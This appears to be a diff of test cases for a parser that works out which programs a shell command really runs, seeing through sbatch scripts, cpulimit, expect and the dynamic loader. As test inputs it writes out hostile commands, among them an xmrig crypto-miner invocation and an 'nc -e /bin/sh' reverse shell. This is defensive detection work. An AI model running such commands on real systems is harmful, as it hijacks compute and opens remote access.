@@ -569,6 +569,12 @@ def test_a_batch_scripts_directives_are_read_as_options_before_its_name():
     session.remember("/w/j.lsf", '#BSUB -gpu "num=2"\n./t\n')
     assert reader.read("bsub < j.lsf", session)[0].args == ["-gpu", "num=2"]
     assert reader.read("sbatch job.sh")[0].line == "sbatch job.sh"  # a script not written by the run: nothing known
+    # lines end at a newline only; a word beginning with # begins a comment, not a # inside a word
+    session.remember("/w/k.sh", "#!/bin/bash\n# a\x0cb\n#SBATCH --comment=run#2 --gres=gpu:8 #x -G 1\n./t\n")
+    assert reader.read("sbatch k.sh", session)[0].args == ["--comment=run#2", "--gres=gpu:8", "k.sh"]
+    # the command line as typed says what runs: a directive's value is never taken for the script
+    session.remember("/w/m.sh", "#SBATCH --no-such-option 10G\n./xmrig -o p:3333\n")
+    assert names("sbatch m.sh", session) == ["sbatch", "m.sh", "xmrig"]
     assert names("qsub -N x -l walltime=1:00 run.sh") == ["qsub", "run.sh"]
     assert names("bsub -n 4 -R 'span[hosts=1]' ./train --epochs 3") == ["bsub", "train"]
 
@@ -577,6 +583,7 @@ def test_cpulimit_runs_the_command_it_throttles():
     assert names("cpulimit -l 40 -- ./xmrig -o p:3333") == ["cpulimit", "xmrig"]
     assert names("cpulimit --limit=50 python3 train.py") == ["cpulimit", "python3"]
     assert names("cpulimit -p 1234 -l 25") == ["cpulimit"]
+    assert names("cpulimit -P /usr/bin/x -l 50 ./w") == ["cpulimit", "w"]
 
 
 def test_a_wrappers_clustered_options_take_their_value_from_the_next_word():
@@ -626,10 +633,18 @@ def test_expect_runs_what_its_script_spawns_or_execs():
     assert spawned("expect t.exp arg", session) == ["./xmrig -o p:3333", "nc -e /bin/sh h 4"]
     assert spawned("expect <<'E'\nspawn ssh h\nE") == ["ssh h"]
     assert spawned("expect -f other.exp") == []
+    # spawn's and exec's options, Tcl's braces, expect's own options with values, system
+    assert spawned("expect -D 1 -c 'spawn -ignore HUP nc h 4; exec -ignorestderr -- sh -c {id; uname}; system ls'") == [
+        "nc h 4", "sh -c id; uname", "id", "uname", "ls"]
+    # what it types into what it spawned
+    typed = [c.line for c in reader.read("expect -c 'spawn ssh h; send \"nohup ./w &\\r\"'") if "expect send" in c.via]
+    assert typed == ["nohup ./w", "./w"]
 
 
 def test_the_dynamic_loader_runs_the_program_after_its_options():
     assert names("/lib64/ld-linux-x86-64.so.2 --library-path /tmp/l ./xmrig -o p:1") == ["ld-linux-x86-64.so.2", "xmrig"]
+    assert names("/lib/x86_64-linux-gnu/ld-2.31.so ./w")[1:] == ["w"]
+    assert names("/lib64/ld64.so.2 ./w")[1:] == ["w"]
     assert names("/lib/ld-musl-x86_64.so.1 --list /bin/ls")[0] == "ld-musl-x86_64.so.1"
 
 
